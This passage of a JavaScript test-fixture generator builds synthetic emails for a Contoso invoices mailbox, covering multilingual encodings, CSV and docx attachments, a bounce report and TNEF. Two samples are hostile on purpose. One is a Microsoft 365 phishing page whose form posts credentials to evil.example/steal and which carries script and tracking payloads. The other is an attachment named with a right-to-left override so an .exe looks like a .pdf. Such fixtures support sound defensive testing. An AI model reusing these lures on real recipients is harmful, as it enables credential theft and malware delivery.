      ['Message-ID', exoId('statements', 'AM0PR10MB4733')],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Hi,

September statements for the main EUR account attached as a zip (CSV plus a
short read-me). Please reconcile against the ERP by Monday.

Thanks,
Mei
`,
      ),
      file('statements-2026-09.zip', 'application/zip', stmtZip),
    ]),
  });

  // 12. CSV attachment from an automated system.
  const expCsv = `report_id,employee,department,submitted,category,amount,currency,status
EXP-2026-09-0112,Priya Raman,Finance Operations,2026-09-03,Travel - rail,84.20,GBP,Approved
EXP-2026-09-0118,David Okafor,Finance Operations,2026-09-07,Meals,23.50,GBP,Approved
EXP-2026-09-0131,Jonas Keller,Group Finance,2026-09-14,Travel - air,412.00,EUR,Approved
EXP-2026-09-0140,Mei Chen,Treasury,2026-09-18,Training,650.00,GBP,Pending
EXP-2026-09-0152,"Ortega, Tomás",Facilities,2026-09-24,Office supplies,61.37,GBP,Approved
EXP-2026-09-0157,Camille Martin,Finance France,2026-09-25,"Hotel, 2 nights",298.00,EUR,Rejected
`;
  msg({
    date: '2026-09-25T18:00:04+00:00',
    trace: (t) => internal(t, { sender: 'noreply@expenses.contoso.example' }),
    headers: [
      ['From', addr('Contoso Expenses', 'noreply@expenses.contoso.example')],
      ['To', MAILBOX],
      ['Subject', 'Scheduled export: expense reports 2026-09 (CSV)'],
      ['Date', '@date'],
      ['Message-ID', '<export.2026-09.1790359204@expenses.contoso.example>'],
      ['Auto-Submitted', 'auto-generated'],
    ],
    boundaries: 'java',
    root: multi('mixed', [
      text(
        'plain',
        `Your scheduled export "Expense reports - monthly" has run.

Period:   2026-09-01 to 2026-09-30
Rows:     6
Format:   CSV (UTF-8, comma separated)

This mailbox is not monitored.
`,
        { charset: 'us-ascii', cte: '7bit' },
      ),
      file('expense-reports-2026-09.csv', 'text/csv', Buffer.from(crlfText(expCsv)), {
        extraCt: '; charset=utf-8',
      }),
    ]),
  });

  // 13. Japanese, ISO-2022-JP 7bit, B-encoded subject and name.
  msg({
    date: '2026-09-28T10:05:44+09:00',
    trace: (t) => internal(t, { sender: P.aiko[1] }),
    headers: [
      ['From', who('aiko', 'ISO-2022-JP')],
      ['To', MAILBOX],
      ['Subject', encodedWords('請求書送付のご案内（2026年9月分）', 'ISO-2022-JP')],
      ['Date', '@date'],
      ['Message-ID', '<20260928100544.51A2.AIKO@jp.contoso.example>'],
      ['X-Mailer', 'Becky! ver. 2.81.04'],
    ],
    root: text(
      'plain',
      `Contoso Invoices ご担当者様

いつもお世話になっております。
東京オフィス経理部の田中です。

2026年9月分のグループ内請求書を本日発行いたしました。
請求書番号は JP-2026-0917 、金額は 1,284,000 円（税込）です。
お支払い期日は2026年10月30日となります。

請求書の原本は社内便でお送りしますので、
到着まで今しばらくお待ちください。

ご不明な点がございましたら、お気軽にお問い合わせください。
よろしくお願いいたします。

田中 愛子
コントソ株式会社\u3000経理部
`,
      { charset: 'ISO-2022-JP', cte: '7bit' },
    ),
  });

  // 14. Arabic (RTL), UTF-8 base64, text + HTML.
  msg({
    date: '2026-09-30T13:22:08+04:00',
    dkim: { d: 'gulf-freight.example', s: 'mail' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.gulf-freight.example',
        ip: '203.0.113.120',
        mailfrom: 'gulf-freight.example',
        lang: 'ar',
        xms: true,
        origin: `from [10.8.0.12] by mail.gulf-freight.example with ESMTPSA id 9f2c71; ${rfcDate(t, '+0400')}`,
      }),
    boundaries: 'apple',
    headers: [
      ['From', who('sara')],
      ['To', MAILBOX],
      ['Subject', encodedWords('تأكيد استلام الدفعة – فاتورة رقم 2026-118', 'UTF-8')],
      ['Date', '@date'],
      ['Message-ID', '<C4E1B2A0-118A-4D2B-9F3E-7A6B5C4D3E2F@gulf-freight.example>'],
      ['Content-Language', 'ar'],
    ],
    root: multi('alternative', [
      text(
        'plain',
        `السادة المحترمون في فريق حسابات كونتوسو،

تحية طيبة وبعد،

نود إعلامكم بأننا استلمنا دفعتكم بمبلغ 4,750.00 دولار أمريكي مقابل الفاتورة
رقم 2026-118 الخاصة بشحنة الحاويات من دبي إلى روتردام.

شكراً لتعاونكم الدائم. سيتم إرسال الإيصال الرسمي خلال يومي عمل.

(English summary: we confirm receipt of your payment of USD 4,750.00 for
invoice 2026-118. The official receipt follows within two working days.)

مع أطيب التحيات،
سارة حداد
قسم الحسابات – شركة الخليج للشحن
`,
        { cte: 'base64' },
      ),
      text(
        'html',
        `<html dir="rtl" lang="ar"><head><meta charset="utf-8"></head>
<body style="font-family:Tahoma,Arial,sans-serif">
<p>السادة المحترمون في فريق حسابات كونتوسو،</p>
<p>تحية طيبة وبعد،</p>
<p>نود إعلامكم بأننا استلمنا دفعتكم بمبلغ <b dir="ltr">4,750.00 USD</b> مقابل الفاتورة رقم <b>2026-118</b> الخاصة بشحنة الحاويات من دبي إلى روتردام.</p>
<p>شكراً لتعاونكم الدائم. سيتم إرسال الإيصال الرسمي خلال يومي عمل.</p>
<p dir="ltr" lang="en" style="color:#555">English summary: we confirm receipt of your payment of USD 4,750.00 for invoice 2026-118.</p>
<p>مع أطيب التحيات،<br>سارة حداد<br>قسم الحسابات – شركة الخليج للشحن</p>
</body></html>
`,
        { cte: 'base64' },
      ),
    ]),
  });

  // 15. Hebrew (RTL), UTF-8 quoted-printable; replied.
  msg({
    date: '2026-10-01T15:48:27+03:00',
    flags: 'RS',
    trace: (t) =>
      inbound(t, {
        host: 'smtp.negev-logistics.example',
        ip: '198.51.100.142',
        mailfrom: 'negev-logistics.example',
        auth: 'nodkim',
        lang: 'he',
        five: false,
      }),
    headers: [
      ['From', who('noa')],
      ['To', MAILBOX],
      ['Subject', encodedWords('אישור העברה בנקאית – הזמנה 7731', 'UTF-8')],
      ['Date', '@date'],
      ['Message-ID', '<CAF7731xNoaLevi0a1b2c3d4e5f@mail.negev-logistics.example>'],
    ],
    root: multi('alternative', [
      text(
        'plain',
        `שלום רב,

מצורף אישור על העברה בנקאית בסך 12,300 אירו עבור הזמנה 7731.
ההעברה בוצעה היום ואמורה להגיע לחשבונכם תוך יומיים.

נשמח לקבל אישור קבלה כשהכסף יגיע.

(In English: transfer of EUR 12,300 for order 7731 was sent today.)

בברכה,
נועה לוי
מחלקת כספים, נגב לוגיסטיקה
`,
      ),
      text(
        'html',
        `<div dir="rtl" style="font-family:Arial,sans-serif">
<p>שלום רב,</p>
<p>מצורף אישור על העברה בנקאית בסך <span dir="ltr">EUR 12,300</span> עבור הזמנה <b>7731</b>.<br>
ההעברה בוצעה היום ואמורה להגיע לחשבונכם תוך יומיים.</p>
<p>נשמח לקבל אישור קבלה כשהכסף יגיע.</p>
<p>בברכה,<br>נועה לוי<br>מחלקת כספים, נגב לוגיסטיקה</p>
</div>
`,
      ),
    ]),
  });

  // 16. Deep nesting: mixed > related > alternative (text + html) + inline PNG, plus a CSV attachment.
  const glCsv = `account,name,period,debit,credit,balance
1000,Cash at bank - EUR main,2026-Q3,4120330.18,3911412.88,208917.30
1200,Trade receivables,2026-Q3,2219004.00,1984312.45,234691.55
2000,Trade payables,2026-Q3,3100220.40,3288917.05,-188696.65
2150,Accrued expenses,2026-Q3,0.00,146300.00,-146300.00
4000,Revenue - services,2026-Q3,0.00,5120044.90,-5120044.90
6100,Freight and logistics,2026-Q3,612480.33,0.00,612480.33
`;
  msg({
    date: '2026-10-05T17:02:55+02:00',
    trace: (t) => internal(t, { sender: P.jonas[1], xms: true }),
    headers: [
      ['From', who('jonas')],
      ['To', MAILBOX],
      ['Cc', who('priya')],
      ['Subject', 'Q3 close pack - summary and GL export'],
      ['Thread-Topic', 'Q3 close pack - summary and GL export'],
      ['Thread-Index', threadIndex('q3pack')],
      ['Date', '@date'],
      ['Message-ID', exoId('q3pack', 'AM0PR10MB4466')],
      ['Content-Language', 'en-US'],
      ['X-MS-Has-Attach', 'yes'],
    ],
    root: multi('mixed', [
      multi(
        'related',
        [
          multi('alternative', [
            text(
              'plain',
              `Hi all,

Q3 is closed. Headlines:

- Revenue EUR 5.12m (budget 4.95m, +3.4%)
- Freight costs EUR 612k (+8% QoQ, see Northwind surcharge)
- DSO 41 days (Q2: 44)
- Unreconciled items: 3, all under EUR 500

GL trial balance export attached (CSV). Full pack on the intranet.

Jonas
`,
            ),
            text(
              'html',
              `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style>td{padding:4px 10px;border-bottom:1px solid #ddd} .n{text-align:right}</style></head>
<body style="font-family:Segoe UI,Calibri,sans-serif;font-size:11pt">
<p><img src="cid:logo@contoso.example" width="16" height="16" alt="Contoso" style="vertical-align:middle"> <b>Contoso Group Finance</b></p>
<p>Hi all,</p>
<p>Q3 is closed. Headlines:</p>
<table cellspacing="0">
<tr><td>Revenue</td><td class="n">EUR 5.12m</td><td>budget 4.95m, <span style="color:#107c41">+3.4%</span></td></tr>
<tr><td>Freight costs</td><td class="n">EUR 612k</td><td><span style="color:#c50f1f">+8% QoQ</span>, see Northwind surcharge</td></tr>
<tr><td>DSO</td><td class="n">41 days</td><td>Q2: 44</td></tr>
<tr><td>Unreconciled items</td><td class="n">3</td><td>all under EUR 500</td></tr>
</table>
<p>GL trial balance export attached (CSV). Full pack on the <a href="https://intranet.contoso.example/finance/close/2026-q3">intranet</a>.</p>
<p>Jonas</p>
</body></html>
`,
            ),
          ]),
          file('contoso-logo.png', 'image/png', CONTOSO_LOGO, { inline: true, cid: 'logo@contoso.example' }),
        ],
        { params: '; type="multipart/alternative"' },
      ),
      file('GL-trial-balance-2026-Q3.csv', 'text/csv', Buffer.from(crlfText(glCsv))),
    ]),
  });

  // 17. UTF-8 emoji, 8bit.
  msg({
    date: '2026-10-06T16:30:12+01:00',
    trace: (t) => internal(t, { sender: P.priya[1] }),
    headers: [
      ['From', who('priya')],
      ['To', [MAILBOX, 'Finance Operations <finance-ops@contoso.example>'].join(', ')],
      ['Subject', encodedWords('🎉 Q3 closed on time — thank you all! 🚀', 'UTF-8')],
      ['Date', '@date'],
      ['Message-ID', exoId('emoji', 'AM0PR10MB4321')],
    ],
    root: text(
      'plain',
      `Hi team 👋

Q3 closed on working day 4 — a first for us! 🥳

A few highlights:
  ✅ 1,914 invoices processed through the shared mailbox
  ⏱️ median time to first response: 2h 40m
  💶 zero late-payment fees this quarter
  🧾 the PO-mismatch backlog is down from 63 to 7

Cake is in the 3rd-floor kitchen at 16:00 🍰☕ — vegan and gluten-free
options too 🌱.

Thank you all 🙏
Priya
`,
      { cte: '8bit' },
    ),
  });

  // 18. Bounce: multipart/report with message/delivery-status and the returned message.
  const reminderRaw = build({
    date: '2026-10-07T10:14:03+02:00',
    headers: [
      ['From', MAILBOX],
      ['To', addr('Adatum Accounts', 'accounts@adatum-supplies.example')],
      ['Subject', 'Payment reminder: invoice INV-2026-0131 is overdue'],
      ['Date', '@date'],
      ['Message-ID', exoId('reminder-0131')],
      ['Content-Language', 'en-US'],
    ],
    root: text('plain', REMINDER_TEXT, { charset: 'us-ascii', cte: '7bit' }),
  });
  msg({
    date: '2026-10-07T08:14:09+00:00',
    trace: (t) => internal(t, { sender: 'postmaster@contoso.example' }),
    headers: [
      [
        'From',
        addr('Microsoft Outlook', 'MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@contoso.example'),
      ],
      ['To', MAILBOX],
      ['Subject', 'Undeliverable: Payment reminder: invoice INV-2026-0131 is overdue'],
      ['Date', '@date'],
      ['Message-ID', exoId('ndr-0131', 'DB9PR10MB5678')],
      ['In-Reply-To', exoId('reminder-0131')],
      ['References', exoId('reminder-0131')],
      ['Auto-Submitted', 'auto-replied'],
      ['X-MS-Exchange-Message-Is-Ndr', ''],
      ['Content-Language', 'en-US'],
    ],
    root: multi(
      'report',
      [
        text(
          'plain',
          `Your message to accounts@adatum-supplies.example couldn't be delivered.

accounts wasn't found at adatum-supplies.example.

invoices        Office 365        accounts
Action Required                   Recipient

Unknown To address

How to Fix It
The address may be misspelled or may not exist. Try one or more of the
following:
- Retype the recipient's address, then resend the message.
- Check the supplier's invoice for an updated billing contact.

More Info for Email Admins
Status code: 550 5.1.10

This error occurred because the recipient's email domain accepted the
connection but rejected the recipient address.

Original Message Details
Created Date:     10/7/2026 8:14:03 AM
Sender Address:   invoices@contoso.example
Recipient Address: accounts@adatum-supplies.example
Subject:          Payment reminder: invoice INV-2026-0131 is overdue

Error Details
Reported error:   550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient
                  accounts@adatum-supplies.example not found by SMTP address lookup
DSN generated by: ${HUB_SERVER}
Remote server:    mx1.adatum-supplies.example
`,
          { charset: 'us-ascii', cte: '7bit' },
        ),
        embedded(
          'message/delivery-status',
          Buffer.from(
            crlfText(`Reporting-MTA: dns;${HUB_SERVER}
Received-From-MTA: dns;${MAILBOX_SERVER}
Arrival-Date: Wed, 7 Oct 2026 08:14:03 +0000

Final-Recipient: rfc822;accounts@adatum-supplies.example
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient accounts@adatum-supplies.example not found by SMTP address lookup
Remote-MTA: dns;mx1.adatum-supplies.example
Last-Attempt-Date: Wed, 7 Oct 2026 08:14:09 +0000
`),
          ),
        ),
        embedded('message/rfc822', reminderRaw),
      ],
      { params: '; report-type=delivery-status' },
    ),
  });

  // 19. winmail.dat (application/ms-tnef).
  msg({
    date: '2026-10-09T11:07:36+01:00',
    trace: (t) =>
      inbound(t, {
        host: 'smtp.northwind.example',
        ip: '198.51.100.88',
        mailfrom: 'northwind.example',
        auth: 'nodkim',
        attach: true,
        xms: true,
        origin: `from NW-EXCH-02.corp.northwind.example (10.1.2.2) by smtp.northwind.example (10.1.2.1) with Microsoft SMTP Server id 14.3.513.0; ${rfcDate(t, '+0100')}`,
      }),
    headers: [
      ['From', who('greg')],
      ['To', MAILBOX],
      ['Subject', 'RE: Purchase order PO-7731 - revised quantities'],
      ['Thread-Topic', 'Purchase order PO-7731 - revised quantities'],
      ['Thread-Index', threadIndex('po7731')],
      ['Date', '@date'],
      ['Message-ID', '<5E2C1A9B7F3D4E21A0B1C2D3E4F50617@NW-EXCH-02.corp.northwind.example>'],
      ['Content-Language', 'en-GB'],
      ['X-MS-Has-Attach', 'yes'],
      ['X-MS-TNEF-Correlator', '<5E2C1A9B7F3D4E21A0B1C2D3E4F50617@NW-EXCH-02.corp.northwind.example>'],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Hello,

Revised quantities for PO-7731 are in the attached order confirmation.
Lines 3 and 5 are reduced; everything else ships as planned on 19/10.

(If you only see a file called winmail.dat, our Exchange server sent the
message in Outlook's rich-text format. Let me know and I'll resend as PDF.)

Regards,
Greg Whitfield
Customer Operations, Northwind Traders
`,
      ),
      file('winmail.dat', 'application/ms-tnef', tnef()),
    ]),
  });

  // 20. No subject at all.
  msg({
    date: '2026-10-12T08:51:19+01:00',
    trace: (t) => internal(t, { sender: P.tomas[1] }),
    headers: [
      ['From', who('tomas')],
      ['To', MAILBOX],
      ['Date', '@date'],
      ['Message-ID', exoId('nosubject', 'AM0PR10MB4790')],
    ],
    root: text(
      'plain',
      `Can someone approve the petty cash top-up (GBP 250) in the ERP today?
The request is PC-2026-041. The float is down to GBP 18.

Thanks,
Tomás
Sent from my phone
`,
      { format: 'flowed' },
    ),
  });

  // 21. Very long subject (folded over several lines); flagged.
  const longSubject =
    'FW: ACTION REQUIRED BY FRIDAY 16 OCTOBER: Reconciliation of intercompany balances between Contoso Ltd (UK), ' +
    'Contoso GmbH (DE), Contoso KK (JP) and Contoso Inc. (US) for period 2026-09, including FX revaluation ' +
    'differences, open disputes over recharged freight costs and the treatment of the September cash-pool sweep';
  msg({
    date: '2026-10-14T12:18:40+02:00',
    flags: 'FS',
    trace: (t) => internal(t, { sender: P.jonas[1] }),
    headers: [
      ['From', who('jonas')],
      ['To', MAILBOX],
      ['Cc', [who('priya'), who('aiko'), who('camille')].join(', ')],
      ['Subject', longSubject],
      ['Date', '@date'],
      ['Message-ID', exoId('icrecon', 'AM0PR10MB4466')],
      ['Importance', 'high'],
      ['X-Priority', '1'],
    ],
    root: text(
      'plain',
      `Forwarding from the group reporting team. Please confirm our side of the
four intercompany balances below by Friday noon.

  UK -> DE   EUR   214,300.00   agreed
  UK -> JP   JPY 1,284,000      JP invoice JP-2026-0917 not yet booked in UK
  UK -> US   USD    88,120.40   difference USD 1,020.40 (freight recharge)
  DE -> US   EUR    12,500.00   agreed

Jonas
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 22. Many recipients in To and Cc.
  const auditTo = [
    MAILBOX,
    who('priya'),
    who('jonas'),
    who('david'),
    who('mei'),
    who('tomas'),
    addr('Camille Martin', P.camille[1]),
    addr('Aiko Tanaka', P.aiko[1]),
    addr('Contoso Treasury', 'treasury@contoso.example'),
    addr('Contoso Payroll', 'payroll@contoso.example'),
    addr('Contoso Tax', 'tax@contoso.example'),
    addr('Contoso Legal', 'legal@contoso.example'),
  ];
  const auditCc = [
    addr('Olivia Grant', 'olivia.grant@woodgrove-audit.example'),
    addr('Marcus Bell', 'marcus.bell@woodgrove-audit.example'),
    addr('Hannah Yusuf', 'hannah.yusuf@woodgrove-audit.example'),
    addr('Audit Team Contoso', 'contoso-2026@woodgrove-audit.example'),
    addr('Ruth Adeyemi (CFO)', 'ruth.adeyemi@contoso.example'),
    addr('Contoso IT Service Desk', 'servicedesk@contoso.example'),
    addr('Board Secretary', 'board.secretary@contoso.example'),
    'records@contoso.example',
  ];
  msg({
    date: '2026-10-15T09:00:31+01:00',
    dkim: { d: 'woodgrove-audit.example', s: 'wg1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail-eopbgr120044.outbound.protection.outlook.example',
        ip: '198.51.100.44',
        mailfrom: 'woodgrove-audit.example',
        xms: true,
      }),
    headers: [
      ['From', addr('Olivia Grant', 'olivia.grant@woodgrove-audit.example')],
      ['To', auditTo.join(', ')],
      ['Cc', auditCc.join(', ')],
      ['Subject', 'FY2026 audit kick-off: document request list and key dates'],
      ['Date', '@date'],
      ['Message-ID', exoId('auditkickoff', 'LO2P265MB7711')],
      ['Content-Language', 'en-GB'],
    ],
    root: text(
      'plain',
      `Dear all,

Thank you for the time yesterday. As agreed, the audit for the financial
year ending 31 December 2026 will run in two phases:

  Interim:   16 November - 27 November 2026
  Final:     1 February - 26 February 2027

For the interim phase we need, by 6 November:

  1. Supplier invoice listing Jan-Oct 2026 (from the ERP, with PO numbers)
  2. Bank reconciliations for June and September
  3. The invoices shared-mailbox procedure (Priya's guide is fine)
  4. A sample of 25 paid invoices with proof of payment - we will send the
     sample selection on 9 November

Please upload documents to the audit portal rather than e-mailing them:
https://portal.woodgrove-audit.example/clients/contoso/fy2026

Best regards,
Olivia Grant
Audit Manager, Woodgrove Audit LLP
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 23. .docx sent as application/octet-stream.
  msg({
    date: '2026-10-16T10:02:13+02:00',
    dkim: { d: 'fabrikam.example', s: 'selector1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam.example',
        ip: '198.51.100.23',
        mailfrom: 'fabrikam.example',
        attach: true,
        five: false,
      }),
    headers: [
      ['From', addr('Fabrikam Legal', 'legal@fabrikam.example')],
      ['To', MAILBOX],
      ['Cc', who('jonas')],
      ['Subject', 'Contract amendment No. 3 - for review'],
      ['Date', '@date'],
      ['Message-ID', '<legal.amend3.20261016080213@fabrikam.example>'],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Dear Contoso team,

Attached is the draft of amendment No. 3 to the hosting services agreement
(payment terms change from 30 to 45 days from 1 January 2027). Please send
comments by 30 October.

Fabrikam Legal
`,
      ),
      file(
        'Fabrikam-Contoso-Amendment-3.docx',
        'application/octet-stream',
        docx([
          'AMENDMENT No. 3 TO THE HOSTING SERVICES AGREEMENT',
          'between Fabrikam, Inc. and Contoso Ltd',
          '1. Clause 7.2 (Payment terms) is replaced: invoices are payable within 45 days of receipt.',
          '2. This amendment takes effect on 1 January 2027.',
          'DRAFT FOR REVIEW - NOT FOR SIGNATURE',
        ]),
      ),
    ]),
  });

  // 24. Plain text with URLs (no MIME at all: a bare RFC 5322 message).
  msg({
    date: '2026-10-19T06:00:00+00:00',
    trace: (t) =>
      inbound(t, {
        host: 'notify.portal.fabrikam.example',
        ip: '198.51.100.24',
        mailfrom: 'portal.fabrikam.example',
        auth: 'nodkim',
        five: false,
      }),
    headers: [
      ['From', addr('Fabrikam Supplier Portal', 'noreply@portal.fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Planned maintenance: supplier portal unavailable Saturday 24 October'],
      ['Date', '@date'],
      ['Message-ID', '<maint-2026-10-24@portal.fabrikam.example>'],
      ['Auto-Submitted', 'auto-generated'],
    ],
    root: {
      plain: `The Fabrikam supplier portal will be unavailable for planned maintenance on
Saturday 24 October 2026 from 06:00 to 10:00 UTC.

During this window you cannot download invoices or statements. Invoices issued
during the window are sent by e-mail as usual.

Status page: https://status.portal.fabrikam.example/
Invoice archive: https://portal.fabrikam.example/invoices?account=CONTOSO-0042

This is an automated message; replies are not read.
`,
    },
  });

  // 25. Hostile HTML (phishing) that landed in the Inbox: unread, not new.
  const hostile = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta charset="utf-8">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/m365.css">
<title>Microsoft 365</title>
<style>
  @import url("https://tracker.example/import.css");
  body { font-family: Segoe UI, Arial, sans-serif; background: #f3f2f1; }
  .box { background: #fff url(https://tracker.example/pixel.gif) no-repeat; max-width: 460px; margin: 24px auto; padding: 28px; }
  .btn { background: #0f6cbd; color: #fff; padding: 10px 18px; text-decoration: none; }
</style>
<script>window.__pwned=1</script>
<script src="https://evil.example/payload.js"></script>
</head>
<body onload="window.__pwned=1">
<div class="box">
  <img src="https://tracker.example/pixel.gif?id=invoices%40contoso.example" width="1" height="1" alt="">
  <h2>Microsoft 365</h2>
  <p>The shared mailbox <b>invoices@contoso.example</b> has reached <b>99.8%</b> of its storage quota.
  Incoming invoices will be rejected in <b>24 hours</b> unless you verify ownership.</p>
  <p><a class="btn" href="https://evil.example/login?u=invoices@contoso.example">https://portal.microsoftonline.example/mailbox/verify</a></p>
  <p><a href="javascript:window.__pwned=1">Keep my mailbox active</a></p>
  <p><img src="x" onerror="window.__pwned=1" alt=""></p>
  <form action="https://evil.example/steal" method="post">
    <input type="email" name="login" value="invoices@contoso.example"><br>
    <input type="password" name="passwd" placeholder="Password"><br>
    <button type="submit" onclick="window.__pwned=1">Verify</button>
  </form>
  <iframe src="https://evil.example/" width="1" height="1" style="border:0"></iframe>
  <svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>
  <div style="background-image:url(https://tracker.example/pixel.gif)">&nbsp;</div>
  <object data="https://evil.example/x.svg" type="image/svg+xml"></object>
  <a href="https://evil.example/" onmouseover="window.__pwned=1" style="font-size:11px;color:#666">Privacy statement</a>
  <p style="font-size:11px;color:#666">Microsoft Corporation, One Example Way, Redmond</p>
</div>
</body></html>
`;
  msg({
    date: '2026-10-21T03:17:56+00:00',
    flags: '',
    trace: (t) =>
      inbound(t, {
        host: 'vps-2291.hosting.example',
        ip: '203.0.113.66',
        mailfrom: 'm365-account-security.example',
        auth: 'weak',
        xms: true,
      }),
    headers: [
      ['From', addr('Microsoft 365 Admin', 'no-reply@m365-account-security.example')],
      ['To', MAILBOX],
      ['Subject', 'Action required: invoices@contoso.example will be suspended in 24 hours'],
      ['Date', '@date'],
      ['Message-ID', '<3b7f1e9a2c4d@vps-2291.hosting.example>'],
      ['Reply-To', 'support@m365-account-security.example'],
      ['X-Priority', '1'],
    ],
    root: text('html', hostile),
  });

  // 26. Remittance advice with a cid: inline image in an HTML signature.
  msg({
    date: '2026-10-22T14:20:05+01:00',
    dkim: { d: 'northwind.example', s: 's2048' },
    trace: (t) =>
      inbound(t, {
        host: 'smtp.northwind.example',
        ip: '198.51.100.88',
        mailfrom: 'northwind.example',
        five: false,
      }),
    headers: [
      ['From', addr('Northwind Accounts Payable', 'ap@northwind.example')],
      ['To', MAILBOX],
      ['Subject', 'Remittance advice - payment 2026-10-22 (3 invoices)'],
      ['Date', '@date'],
      ['Message-ID', '<remit.20261022.0042@northwind.example>'],
    ],
    root: multi(
      'related',
      [
        text(
          'html',
          `<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:13px">
<p>Dear supplier,</p>
<p>We have today paid the following invoices by bank transfer (reference <b>NWREM-20261022-0042</b>):</p>
<table border="1" cellpadding="4" style="border-collapse:collapse">
<tr><th>Your invoice</th><th>Date</th><th align="right">Amount</th></tr>
<tr><td>CTS-2026-1187</td><td>2026-09-14</td><td align="right">EUR 2,400.00</td></tr>
<tr><td>CTS-2026-1201</td><td>2026-09-21</td><td align="right">EUR 1,150.50</td></tr>
<tr><td>CTS-2026-1219</td><td>2026-09-30</td><td align="right">EUR 785.25</td></tr>
<tr><td colspan="2"><b>Total</b></td><td align="right"><b>EUR 4,335.75</b></td></tr>
</table>
<p>Kind regards,</p>
<table><tr><td><img src="cid:logo@northwind.example" width="16" height="16" alt="Northwind"></td>
<td><b>Northwind Traders</b> &middot; Accounts Payable</td></tr></table>
</body></html>
`,
        ),
        file('northwind.png', 'image/png', NORTHWIND_LOGO, { inline: true, cid: 'logo@northwind.example' }),
      ],
      { params: '; type="text/html"' },
    ),
  });

  // 27. Forward with the original attached as message/rfc822.
  const dupOriginal = build({
    date: '2026-10-23T16:45:12+02:00',
    headers: [
      ['From', addr('Fabrikam Accounts Receivable', 'ar@fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Duplicate payment received - INV-2026-0098'],
      ['Date', '@date'],
      ['Message-ID', '<ar.dup.0098.20261023@fabrikam.example>'],
    ],
    root: text(
      'plain',
      `Dear Contoso team,

We received two payments of EUR 7,940.00 for invoice INV-2026-0098, on
29 September and again on 20 October. How would you like us to handle the
duplicate: refund to your account, or credit against invoice INV-2026-0147?

Kind regards,
Fabrikam Accounts Receivable
`,
    ),
  });
  msg({
    date: '2026-10-26T09:12:00+00:00',
    trace: (t) => internal(t, { sender: P.david[1] }),
    headers: [
      ['From', who('david')],
      ['To', who('mei')],
      ['Cc', MAILBOX],
      ['Subject', 'FW: Duplicate payment received - INV-2026-0098'],
      ['Date', '@date'],
      ['Message-ID', exoId('dupfw', 'AM0PR10MB4502')],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Mei,

Looks like the re-run on 20/10 paid INV-2026-0098 a second time. Original
message from Fabrikam attached. I suggest we take the credit against
INV-2026-0147 rather than a refund - OK with you?

David
`,
      ),
      embedded('message/rfc822', dupOriginal, [
        ['Content-Disposition', 'attachment; filename="Duplicate payment received - INV-2026-0098.eml"'],
      ]),
    ]),
  });

  // 28. Right-to-left override file name (shows as "...exe.pdf"); new, unread.
  msg({
    dir: 'new',
    date: '2026-10-28T07:55:31+00:00',
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam-billing.example',
        ip: '203.0.113.90',
        mailfrom: 'fabrikam-billing.example',
        auth: 'weak',
        attach: true,
      }),
    headers: [
      ['From', addr('Fabrikam Accounts Receivable', 'ar@fabrikam-billing.example')],
      ['To', MAILBOX],
      ['Subject', 'Overdue invoice - final notice before collection'],
      ['Date', '@date'],
      ['Message-ID', '<final-notice-0212.20261028@fabrikam-billing.example>'],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Dear customer,

Invoice 2026-0212 is 45 days overdue. Open the attached invoice and pay
within 48 hours to avoid collection costs.

Accounts Receivable
`,
      ),
      file('Invoice_2026_0212\u202Efdp.exe', 'application/octet-stream', FAKE_EXE),
    ]),
  });

  // 29. Monitoring warning; new, unread.
  msg({
    dir: 'new',
    date: '2026-11-02T02:14:07+00:00',
    trace: alertTrace,
    headers: [
      ['From', addr('Contoso Monitoring', 'alerts@contoso.example')],
      ['To', MAILBOX],
      ['Subject', '[FIRING:1] DiskSpaceLow erp-db-02 /var/lib/postgresql (91% used, severity=warning)'],
      ['Date', '@date'],
      ['Message-ID', '<alert.8d21c4f0.1793585647@alerts.contoso.example>'],
      ['Auto-Submitted', 'auto-generated'],
      ['X-Auto-Response-Suppress', 'All'],
      ['X-Alert-Id', '8d21c4f0'],
      ['X-Alert-Severity', 'warning'],
    ],
    root: text(
      'plain',
      `[FIRING:1] DiskSpaceLow

Alert:      DiskSpaceLow
Severity:   warning
Host:       erp-db-02.corp.contoso.example
Mount:      /var/lib/postgresql (ext4, 2.0 TiB)
Used:       91.2% (threshold 90%)
Forecast:   full in ~9 days at the current rate

Likely cause: month-end invoice attachments imported on 2026-11-01.

Runbook:   https://wiki.contoso.example/runbooks/disk-space-low
Dashboard: https://grafana.contoso.example/d/erp-db/erp-database
--
Sent by Contoso Monitoring. Do not reply to this message.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 30. Quoted reply from the supplier to our reply; new, unread.
  msg({
    dir: 'new',
    date: '2026-11-03T11:40:22+01:00',
    dkim: { d: 'fabrikam.example', s: 'selector1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam.example',
        ip: '198.51.100.23',
        mailfrom: 'fabrikam.example',
        origin: `from ar-ws-07.corp.fabrikam.example (ar-ws-07.corp.fabrikam.example [10.20.4.7]) by mail.fabrikam.example (Postfix) with ESMTPS id 4Rk9PzT1q8z2Abc; ${rfcDate(t, '+0100')}`,
      }),
    headers: [
      ['From', addr('Fabrikam Accounts Receivable', 'ar@fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Re: Invoice INV-2026-0147 from Fabrikam, Inc.'],
      ['Date', '@date'],
